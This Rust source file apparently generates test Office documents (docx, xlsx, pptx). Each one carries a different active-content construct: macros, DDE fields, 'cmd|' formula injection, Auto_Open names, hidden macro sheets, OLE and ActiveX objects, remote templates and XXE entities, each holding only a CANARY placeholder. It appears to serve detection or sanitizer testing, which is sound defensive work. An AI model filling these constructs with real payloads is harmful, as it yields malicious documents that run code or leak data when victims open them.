//! Word, Excel and PowerPoint that do something.

use std::io::{Cursor, Write};

use zip::{ZipWriter, write::SimpleFileOptions};

use crate::pdf::CANARY;

/// A document as parts, before it is packed.
pub struct Office {
    /// Name, content type, bytes; a part without a type is a picture or a program.
    pub parts: Vec<(String, String, Vec<u8>)>,
    /// Of which part, id, kind, target, whether it is outside.
    pub relations: Vec<(String, String, String, String, bool)>,
}

const KINDS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const DECLARED: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office""#;

impl Office {
    fn new(main: &str, main_type: &str, body: &str) -> Office {
        let mut office = Office { parts: Vec::new(), relations: Vec::new() };
        office.part(
            main,
            &format!("application/vnd.openxmlformats-officedocument.{main_type}"),
            body.as_bytes(),
        );
        office.relation("", "rId1", "officeDocument", main, false);
        office
    }

    pub fn word() -> Office {
        Office::new(
            "word/document.xml",
            "wordprocessingml.document.main+xml",
            &format!(
                "<w:document {DECLARED}><w:body><w:p><w:r><w:t>申請書です</w:t></w:r><!--HERE--></w:p></w:body></w:document>"
            ),
        )
    }

    pub fn excel() -> Office {
        let mut office = Office::new(
            "xl/workbook.xml",
            "spreadsheetml.sheet.main+xml",
            &format!(
                "<workbook {DECLARED}><sheets><sheet name='表' sheetId='1' r:id='rId2'/></sheets><!--HERE--></workbook>"
            ),
        );
        let sheet = format!(
            "<worksheet {DECLARED}><sheetData><row r='1'><c r='A1'><f>SUM(B1:B2)</f><v>3</v></c><!--CELL--></row></sheetData><!--AFTER--></worksheet>"
        );
        office.part(
            "xl/worksheets/sheet1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            sheet.as_bytes(),
        );
        office.relation("xl/workbook.xml", "rId2", "worksheet", "worksheets/sheet1.xml", false);
        office
    }

    pub fn slides() -> Office {
        let mut office = Office::new(
            "ppt/presentation.xml",
            "presentationml.presentation.main+xml",
            &format!(
                "<p:presentation {DECLARED}><p:sldIdLst><p:sldId id='256' r:id='rId2'/></p:sldIdLst></p:presentation>"
            ),
        );
        let slide = format!(
            "<p:sld {DECLARED}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>説明</a:t></a:r></a:p></p:txBody></p:sp><!--HERE--></p:spTree></p:cSld></p:sld>"
        );
        office.part(
            "ppt/slides/slide1.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.slide+xml",
            slide.as_bytes(),
        );
        office.relation("ppt/presentation.xml", "rId2", "slide", "slides/slide1.xml", false);
        office
    }

    /// The part that people see first.
    fn main(&self) -> String {
        let first = self.parts.iter().find(|part| part.0.contains("slide1")).unwrap_or(&self.parts[0]);
        first.0.clone()
    }

    pub fn part(&mut self, name: &str, content_type: &str, bytes: &[u8]) {
        self.parts.push((name.to_owned(), content_type.to_owned(), bytes.to_vec()));
    }

    pub fn relation(&mut self, of: &str, id: &str, kind: &str, target: &str, external: bool) {
        self.relations.push((
            of.to_owned(),
            id.to_owned(),
            format!("{KINDS}/{kind}"),
            target.to_owned(),
            external,
        ));
    }

    fn insert(&mut self, mark: &str, xml: &str) {
        for (_, _, bytes) in &mut self.parts {
            let text = String::from_utf8(bytes.clone()).unwrap_or_default();
            if text.contains(mark) {
                *bytes = text.replace(mark, &format!("{xml}{mark}")).into_bytes();
            }
        }
    }

    pub fn packed(&self, spelling: usize) -> Vec<u8> {
        let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
        let mut put = |name: &str, bytes: &[u8]| {
            zip.start_file(name, SimpleFileOptions::default()).unwrap();
            zip.write_all(bytes).unwrap();
        };
        let mut types = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/><Default Extension='bin' ContentType='application/vnd.ms-office.vbaProject'/>".to_owned();
        for (name, content_type, _) in self.parts.iter().filter(|part| !part.1.is_empty()) {
            let name = if spelling == 1 { name.to_uppercase() } else { name.clone() };
            types += &format!("<Override PartName='/{name}' ContentType='{content_type}'/>");
        }
        put("[Content_Types].xml", (types + "</Types>").as_bytes());
        let mut of: Vec<&str> = self.relations.iter().map(|relation| relation.0.as_str()).collect();
        of.sort_unstable();
        of.dedup();
        for part in of {
            let (folder, file) = part.rsplit_once('/').map_or(("", part), |(folder, file)| (folder, file));
            let mut list =
                "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
                    .to_owned();
            for (_, id, kind, target, external) in self.relations.iter().filter(|relation| relation.0 == part)
            {
                let mode = if *external { "TargetMode='External'" } else { "" };
                list += &format!("<Relationship Id='{id}' Type='{kind}' Target='{target}' {mode}/>");
            }
            let slash = if folder.is_empty() { "" } else { "/" };
            put(&format!("{folder}{slash}_rels/{file}.rels"), (list + "</Relationships>").as_bytes());
        }
        for (name, _, bytes) in &self.parts {
            let bytes = match spelling {
                // In UTF-16, as the standard allows.
                2 if name.ends_with(".xml") => {
                    let text = String::from_utf8(bytes.clone()).unwrap();
                    [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
                }
                _ => bytes.clone(),
            };
            put(name, &bytes);
        }
        zip.finish().unwrap().into_inner()
    }
}

type Construct = fn(&mut Office);

pub const CONSTRUCTS: &[(&str, Construct)] = &[
    ("macro", |o| {
        let main = o.main();
        let kind = o.parts[0].1.clone();
        o.parts[0].1 = match () {
            () if kind.contains("word") => {
                "application/vnd.ms-word.document.macroEnabled.main+xml".to_owned()
            }
            () if kind.contains("spreadsheet") => {
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml".to_owned()
            }
            () => "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml".to_owned(),
        };
        o.part("word/vbaProject.bin", "", CANARY.as_bytes());
        o.relation(&main, "rIdV", "vbaProject", "/word/vbaProject.bin", false);
    }),
    ("template", |o| {
        let main = o.main();
        o.relation(&main, "rIdT", "attachedTemplate", &format!("http://{CANARY}/t.dotm"), true);
        o.insert("<!--HERE-->", "<w:attachedTemplate r:id='rIdT'/>");
    }),
    ("link", |o| {
        let main = o.main();
        o.relation(&main, "rIdL", "hyperlink", &format!("file://{CANARY}/x"), true);
        o.insert("<!--HERE-->", "<w:hyperlink r:id='rIdL'><w:r><w:t>押す</w:t></w:r></w:hyperlink><a:hlinkClick r:id='rIdL' action='ppaction://program'/>");
    }),
    ("remote-picture", |o| {
        let main = o.main();
        o.relation(&main, "rIdP", "image", &format!("http://{CANARY}/x.png"), true);
        o.insert("<!--HERE-->", "<a:blip r:link='rIdP'/>");
    }),
    ("ole", |o| {
        let main = o.main();
        o.part("word/embeddings/ole.bin", "", CANARY.as_bytes());
        o.relation(&main, "rIdO", "oleObject", "/word/embeddings/ole.bin", false);
        o.insert("<!--HERE-->", "<w:object><v:shape/><o:OLEObject r:id='rIdO' ProgID='Package'/></w:object><p:graphicFrame><p:oleObj r:id='rIdO'><p:embed/><p:pic/></p:oleObj></p:graphicFrame>");
    }),
    ("active-x", |o| {
        let main = o.main();
        o.part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", CANARY.as_bytes());
        o.relation(&main, "rIdX", "control", "/word/activeX/activeX1.xml", false);
        o.insert("<!--HERE-->", "<w:control r:id='rIdX'/>");
    }),
    ("chunk", |o| {
        let main = o.main();
        o.part("word/chunk.html", "text/html", format!("<script>{CANARY}</script>").as_bytes());
        o.relation(&main, "rIdC", "aFChunk", "/word/chunk.html", false);
        o.insert("<!--HERE-->", "<w:altChunk r:id='rIdC'/>");
    }),
    ("field", |o| {
        let run = |kind: &str| format!("<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>");
        let code = format!(
            "{}<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO {CANARY}</w:instrText></w:r>{}<w:r><w:t>値</w:t></w:r>{}",
            run("begin"),
            run("separate"),
            run("end")
        );
        o.insert("<!--HERE-->", &code);
        o.insert("<!--HERE-->", &format!("<w:fldSimple w:instr='INCLUDEPICTURE \"http://{CANARY}\"'><w:r><w:t>値</w:t></w:r></w:fldSimple>"));
    }),
    ("external-book", |o| {
        o.part(
            "xl/externalLinks/externalLink1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            CANARY.as_bytes(),
        );
        o.relation("xl/workbook.xml", "rIdE", "externalLink", "externalLinks/externalLink1.xml", false);
        o.insert("<!--HERE-->", "<externalReferences><externalReference r:id='rIdE'/></externalReferences>");
        o.insert("<!--CELL-->", &format!("<c r='B1'><f>[1]{CANARY}!A1</f><v>1</v></c>"));
    }),
    ("formula", |o| {
        for formula in [
            format!("HYPERLINK(\"http://{CANARY}\",\"押す\")"),
            format!("_xlfn.WEBSERVICE(\"http://{CANARY}\")"),
            format!("cmd|'/c {CANARY}'!A0"),
            format!("EXEC (\"{CANARY}\")"),
        ] {
            o.insert("<!--CELL-->", &format!("<c r='C1'><f>{formula}</f><v>1</v></c>"));
        }
        o.insert("<!--HERE-->", &format!("<definedNames><definedName name='_xlnm.Auto_Open'>{CANARY}!A1</definedName><definedName name='x' vbProcedure='1'>{CANARY}</definedName></definedNames>"));
    }),
    ("macro-sheet", |o| {
        o.part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", CANARY.as_bytes());
        o.relation("xl/workbook.xml", "rIdM", "xlMacrosheet", "macrosheets/sheet1.xml", false);
        o.insert(
            "<!--HERE-->",
            "<sheets><sheet name='m' sheetId='9' state='veryHidden' r:id='rIdM'/></sheets>",
        );
    }),
    ("connection", |o| {
        let main = o.main();
        o.part(
            "xl/connections.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
            CANARY.as_bytes(),
        );
        o.relation(&main, "rIdN", "connections", "/xl/connections.xml", false);
    }),
    ("video", |o| {
        let main = o.main();
        o.relation(&main, "rIdF", "video", &format!("http://{CANARY}/x.mp4"), true);
        o.insert("<!--HERE-->", "<a:videoFile r:link='rIdF'/>");
    }),
    ("vml", |o| {
        o.insert("<!--HERE-->", &format!("<w:pict><v:shape href='http://{CANARY}' o:href='http://{CANARY}'><v:imagedata src='http://{CANARY}'/></v:shape></w:pict>"))
    }),
    ("shape-macro", |o| o.insert("<!--AFTER-->", &format!("<sp macro='[0]!{CANARY}' textlink='{CANARY}'/>"))),
    ("entity", |o| {
        let bytes = String::from_utf8(o.parts[0].2.clone()).unwrap();
        o.parts[0].2 =
            format!("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/{CANARY}'>]>{bytes}").into_bytes();
    }),
    ("custom-xml", |o| {
        let main = o.main();
        o.part("customXml/item1.xml", "application/xml", CANARY.as_bytes());
        o.relation(&main, "rIdU", "customXml", "/customXml/item1.xml", false);
    }),
    ("picture", |o| {
        let main = o.main();
        o.part("word/media/a.png", "", format!("MZ {CANARY}").as_bytes());
        o.relation(&main, "rIdG", "image", "/word/media/a.png", false);
        o.insert("<!--HERE-->", "<a:blip r:embed='rIdG'/>");
    }),
    ("extension", |o| {
        o.insert("<!--HERE-->", &format!("<a:extLst><a:ext uri='x'><x>{CANARY}</x></a:ext></a:extLst>"))
    }),
    ("other-prefix", |o| {
        let main = o.main();
        o.relation(&main, "rIdQ", "oleObject", &format!("http://{CANARY}"), true);
        o.insert("<!--HERE-->", "<w:x xmlns:q='http://schemas.openxmlformats.org/officeDocument/2006/relationships' q:id='rIdQ'/>");
    }),
];

pub const KINDS_OF_OFFICE: &[(&str, fn() -> Office)] =
    &[("docx", Office::word), ("xlsx", Office::excel), ("pptx", Office::slides)];
